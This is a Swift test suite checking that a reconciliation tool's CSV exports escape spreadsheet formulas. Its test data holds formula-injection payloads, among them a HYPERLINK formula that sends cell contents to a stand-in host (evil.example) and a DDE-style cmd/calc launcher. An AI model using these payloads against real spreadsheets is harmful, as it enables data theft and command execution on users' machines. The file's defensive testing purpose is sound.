import CivilCalendar
import Foundation
import Postgres
import Storage
import Testing
import TestSupport
@testable import WorldSupport

/// docs/reports.md, "Finance audit CSV": no CSV the job writes opens as a live formula in finance's spreadsheet.
@Suite struct FormulaSafeCSVTests {
    static let hostileAccount = #"=HYPERLINK("http://evil.example/?"&A1,"refund")"#

    @Test func theFinanceCSVNeverCarriesAFormulaUnlessAskedForRawCells() async throws {
        try await RunWorld.with("csv-formulas") { world in
            try await world.connection.execute("""
                INSERT INTO iap.transactions (transaction_id, account_id, original_transaction_id, product_id, purchase_date, quantity,
                                              offer_code_ref_name, environment, price_milliunits, currency)
                VALUES ('9001', \(Self.hostileAccount), '9001', '@SUM(1+1)', now() - interval '1 hour', 1, '+cmd|'' /C calc''!A0',
                        'Production', -990, 'EUR')
                """)
            try await world.connection.execute("INSERT INTO iap.journal_backlog VALUES ('9001')")
            _ = try await ReconciliationStore(connection: world.connection).drainJournalBacklog()
            let environment = ["DATABASE_URL": world.database.connectionString]
            let from = Timestamp.day(Date().addingTimeInterval(-86_400)), to = Timestamp.day(Date().addingTimeInterval(86_400))
            let safe = try await CLIProcess.run(["export-finance", "--from", from, "--to", to], environment: environment)
            #expect(safe.status == 0)
            let row = try #require(safe.stdout.components(separatedBy: "\r\n").first { $0.hasPrefix("purchase,") })
            #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
            #expect(row.contains(",'@SUM(1+1),"))
            #expect(row.contains(",'+cmd|' /C calc'!A0,"))
            #expect(row.contains(",Production,-0.99,EUR,-0.99,signed,"))  // a number stays a number
            let raw = try await CLIProcess.run(["export-finance", "--from", from, "--to", to, "--raw-cells"], environment: environment)
            let rawRow = try #require(raw.stdout.components(separatedBy: "\r\n").first { $0.hasPrefix("purchase,") })
            #expect(rawRow.contains(#","=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
            #expect(rawRow.contains(",@SUM(1+1),"))
        }
    }

    @Test func theRunsFailureCSVNeverCarriesAFormula() async throws {
        try await RunWorld.with("csv-failures") { world in
            try await world.addReceipt(Self.hostileAccount, "!!! not base64 !!!")
            _ = try await world.run(world.options())
            let failures = try String(contentsOf: try #require(try world.lastReportDirectory()).appending(path: "failures.csv"), encoding: .utf8)
            #expect(failures.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""refund"")""#))
            #expect(!failures.contains("\r\n\"=HYPERLINK") && !failures.contains("\r\n=HYPERLINK"))
        }
    }

    /// corrections.csv, written by a run from the command line: the hostile account's grant is
    /// there, its id a quoted text cell starting with `'`.
    @Test func theRunsCorrectionsCSVNeverCarriesAFormula() async throws {
        try await RunWorld.with("csv-corrections") { world in
            try await world.addReceipt(Self.hostileAccount, spec: ["generate": ["subscriptions": [world.subscription(original: "77", endDays: 10)]]])
            let result = try await CLIProcess.run(["run", "--report-dir", world.reportRoot.path], environment: RunWorld.environment(world))
            #expect(result.status == 0)
            let corrections = try String(contentsOf: world.reportRoot.appending(path: "corrections.csv"), encoding: .utf8)
            let row = try #require(corrections.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") }, "\(corrections)")
            #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""refund"")",pro.monthly,grant,"#), "\(row)")
        }
    }

    /// disagreements.csv (`--source both`), from the command line: where the API and verifyReceipt
    /// disagree about the hostile account, its id is a text cell.
    @Test func theRunsDisagreementsCSVNeverCarriesAFormula() async throws {
        try await APIWorld.withAPIWorld("csv-disagreements", disagreements: ["30000": ["refund": true]]) { world, key in
            for table in ["iap.app_receipts", "iap.entitlements"] {
                try await world.connection.execute(PostgresQuery(
                    unsafeSQL: "UPDATE \(table) SET account_id = $1 WHERE account_id = 'acct-00000'", binds: [PostgresBind(Self.hostileAccount)]))
            }
            let result = try await CLIProcess.run(
                ["run"] + APIWorld.apiFlags(world, key: key) + ["--source", "both", "--report-dir", world.reportRoot.path],
                environment: RunWorld.environment(world))
            #expect(result.status == 0, "\(result.stderr.suffix(1000))")
            let disagreements = try String(contentsOf: world.reportRoot.appending(path: "disagreements.csv"), encoding: .utf8)
            let row = try #require(disagreements.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") }, "\(disagreements)")
            #expect(row.hasPrefix(#""'=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#), "\(row)")
        }
    }
}
